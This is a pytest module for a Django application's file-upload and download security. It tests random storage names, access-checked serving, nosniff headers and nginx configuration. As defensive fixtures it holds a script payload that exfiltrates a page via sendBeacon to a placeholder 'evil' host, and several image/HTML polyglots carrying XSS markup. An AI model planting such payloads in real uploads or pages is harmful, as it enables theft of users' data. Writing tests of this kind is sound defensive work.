"""Uploaded and exported files: judged by their bytes, stored under names nobody can guess, served only through
views that check the same access as their record, never as a page."""

import re
from pathlib import Path
from urllib.parse import quote

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from campaigns.models import WalkthroughSession
from issues.models import Evidence
from issues.services import evidence_add, issue_transition
from reports.models import ExportJob
from reports.services import export_job_run
from tests.factories import PASSWORD, CampaignFactory, make_issue
from tests.test_walkthrough_forms import PDF, PNG
from tests.walkthrough_posts import walkthrough_post

pytestmark = pytest.mark.django_db
NEW = reverse("campaigns:walkthrough_create")
SCRIPT = b"<script>fetch('/issues/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
RANDOM_NAME = r"[A-Za-z0-9_-]{22}"


def polyglots():
    """Bytes that are a valid image and also carry markup a browser would run if it took them for a page."""
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
    return [
        ("png-then-script", PNG + SCRIPT),
        ("png-then-html-page", PNG + b"<!DOCTYPE html><html><body onload=alert(1)>"),
        ("jpeg-then-svg", jpeg + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("gif-comment-iframe", b"GIF89a\x01\x00\x01\x00\x00\x00\x00!\xfe\x10<IFRAME src=x>\x00;"),
    ]


def login(client, username):
    client.login(username=username, password=PASSWORD)


def rectifying(org, users):
    issue = make_issue(by=users["staff"])
    issue = issue_transition(issue=issue, action="hand_off", by=users["staff"], note="请限期整改",
                             changes={"department": org.market, "deadline": timezone.localdate()})
    return issue_transition(issue=issue, action="acknowledge", by=users["liaison"])


def proxy_post(org, walker, upload):
    data = walkthrough_post(campaign=CampaignFactory(), department=org.market, lead=walker.official, mode="proxy")
    data["authorisation_form"] = upload
    return data


# --- finding 1: a polyglot uploaded under an .html name ran as a page -------------------------------------------
@pytest.mark.parametrize(("label", "content"), polyglots())
def test_an_image_carrying_markup_is_refused_as_an_authorisation_letter(client, org, users, label, content):
    login(client, "walker")
    response = client.post(NEW, proxy_post(org, users["walker"], SimpleUploadedFile("授权书.html", content)))
    page = response.content.decode()
    assert "夹带了网页代码" in page and "授权书.html" in page
    assert not WalkthroughSession.objects.exists()


@pytest.mark.parametrize(("label", "content"), polyglots())
def test_an_image_carrying_markup_is_refused_as_evidence(client, org, users, label, content):
    issue = rectifying(org, users)
    login(client, "liaison")
    response = client.post(reverse("issues:evidence_upload", args=[issue.pk]),
                           {"file": SimpleUploadedFile("现场.png", content), "description": "整改后"})
    assert "夹带了网页代码" in response.content.decode()
    assert not Evidence.objects.exists()


def test_an_image_named_html_is_stored_and_served_as_the_image_it_is(client, org, users):
    login(client, "walker")
    client.post(NEW, proxy_post(org, users["walker"], SimpleUploadedFile("授权书.html", PNG)))
    session = WalkthroughSession.objects.get()
    assert re.fullmatch(rf"authorisations/\d{{4}}/\d{{2}}/{RANDOM_NAME}\.png", session.authorisation_form.name)
    assert session.authorisation_original_name == "授权书.html"
    login(client, "staff")
    response = client.get(reverse("campaigns:authorisation_download", args=[session.pk]))
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    # Shown inline as the image; saved, it gets the extension of what it is, never .html.
    assert response["Content-Disposition"] == f"inline; filename*=utf-8''{quote('授权书.png')}"


def test_a_document_is_always_a_download_never_shown_in_the_browser(client, org, users):
    login(client, "walker")
    client.post(NEW, proxy_post(org, users["walker"], SimpleUploadedFile("王大爷 授权书.pdf", PDF)))
    session = WalkthroughSession.objects.get()
    assert session.authorisation_form.name.endswith(".pdf") and "授权书" not in session.authorisation_form.name
    response = client.get(reverse("campaigns:authorisation_download", args=[session.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote('王大爷 授权书.pdf')}"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF


# --- finding 2: every upload and export was public under a guessable name ---------------------------------------
def test_evidence_is_stored_under_a_random_name_and_linked_through_the_checked_view(client, org, users):
    issue = rectifying(org, users)
    login(client, "liaison")
    client.post(reverse("issues:evidence_upload", args=[issue.pk]),
                {"file": SimpleUploadedFile("整改后 照片.PNG", PNG), "description": "整改后"})
    evidence = Evidence.objects.get()
    assert re.fullmatch(rf"evidence/\d{{4}}/\d{{2}}/{RANDOM_NAME}\.png", evidence.file.name)
    assert (evidence.original_name, evidence.content_type) == ("整改后 照片.PNG", "image/png")
    page = client.get(issue.get_absolute_url()).content.decode()
    link = reverse("issues:evidence_download", args=[issue.pk, evidence.pk])
    assert f'href="{link}"' in page and "/media/" not in page
    response = client.get(link)
    assert response.status_code == 200 and b"".join(response.streaming_content) == PNG


@pytest.mark.parametrize(("who", "status"), [("liaison", 200), ("staff", 200), ("leader", 200),
                                             ("other_liaison", 404), ("walker", 404)])
def test_evidence_is_served_only_to_those_who_may_read_its_issue(client, org, users, who, status):
    issue = rectifying(org, users)
    evidence = evidence_add(issue=issue, by=users["liaison"], file=ContentFile(PDF, name="整改报告.pdf"))
    login(client, users[who].username)
    assert client.get(reverse("issues:evidence_download", args=[issue.pk, evidence.pk])).status_code == status
    assert client.get(f"/media/{evidence.file.name}").status_code == 404


def test_anonymous_gets_no_file_by_view_or_by_media_path(client, org, users):
    issue = rectifying(org, users)
    evidence = evidence_add(issue=issue, by=users["liaison"], file=ContentFile(PDF, name="整改报告.pdf"))
    response = client.get(reverse("issues:evidence_download", args=[issue.pk, evidence.pk]))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    assert client.get(f"/media/{evidence.file.name}").status_code == 404


def test_an_export_is_stored_under_a_random_name_and_downloaded_only_by_its_owner(client, org, users):
    job = ExportJob.objects.create(kind=ExportJob.Kind.LEDGER, user=users["staff"], query="")
    job = export_job_run(job_id=job.pk)
    assert re.fullmatch(rf"exports/\d{{4}}/\d{{2}}/{RANDOM_NAME}\.xlsx", job.file.name)
    login(client, "leader")
    assert client.get(reverse("reports:export_job_download", args=[job.pk])).status_code == 404
    login(client, "staff")
    response = client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")


def test_in_production_nginx_sends_the_file_after_the_view_said_yes(client, org, users, settings):
    settings.MEDIA_ACCEL_REDIRECT_PREFIX = "/protected-media/"
    issue = rectifying(org, users)
    evidence = evidence_add(issue=issue, by=users["liaison"], file=ContentFile(PNG, name="现场.png"))
    login(client, "liaison")
    response = client.get(reverse("issues:evidence_download", args=[issue.pk, evidence.pk]))
    assert response["X-Accel-Redirect"] == f"/protected-media/{evidence.file.name}"
    assert response["Content-Type"] == "image/png" and response.content == b""
    assert response["X-Content-Type-Options"] == "nosniff"
    login(client, users["other_liaison"].username)
    response = client.get(reverse("issues:evidence_download", args=[issue.pk, evidence.pk]))
    assert response.status_code == 404 and not response.has_header("X-Accel-Redirect")


def test_nginx_keeps_uploads_internal():
    conf = (Path(__file__).resolve().parents[1] / "deploy" / "nginx.conf").read_text()
    blocks = dict(re.findall(r"location\s+(\S+)\s*\{([^}]*)\}", conf))
    assert "/media/" not in blocks, "nginx must not serve MEDIA_ROOT publicly"
    assert "internal;" in blocks["/protected-media/"]
    assert "alias /var/lib/walkthrough/media/;" in blocks["/protected-media/"]


def test_the_data_migration_moves_old_guessable_names_to_random_ones(org, users):
    from django.core.files.storage import default_storage

    from campaigns.stored_files import rename_stored_files

    issue = rectifying(org, users)
    evidence = evidence_add(issue=issue, by=users["liaison"], file=ContentFile(PNG, name="x.png"))
    old = default_storage.save("evidence/2025/05/市场局整改照片.jpg", ContentFile(PNG))
    Evidence.objects.filter(pk=evidence.pk).update(file=old, original_name="", content_type="")
    missing = evidence_add(issue=issue, by=users["liaison"], file=ContentFile(PDF, name="y.pdf"))
    Evidence.objects.filter(pk=missing.pk).update(file="evidence/2025/05/丢失.pdf", original_name="", content_type="")

    assert rename_stored_files(Evidence, file_field="file", folder="evidence", type_field="content_type",
                               name_field="original_name") == 1
    evidence.refresh_from_db()
    assert re.fullmatch(rf"evidence/\d{{4}}/\d{{2}}/{RANDOM_NAME}\.png", evidence.file.name)
    assert (evidence.original_name, evidence.content_type) == ("市场局整改照片.jpg", "image/png")
    assert not default_storage.exists(old) and evidence.file.read() == PNG
    missing.refresh_from_db()
    assert missing.file.name == "evidence/2025/05/丢失.pdf" and missing.original_name == "丢失.pdf"
    assert rename_stored_files(Evidence, file_field="file", folder="evidence", type_field="content_type",
                               name_field="original_name") == 0
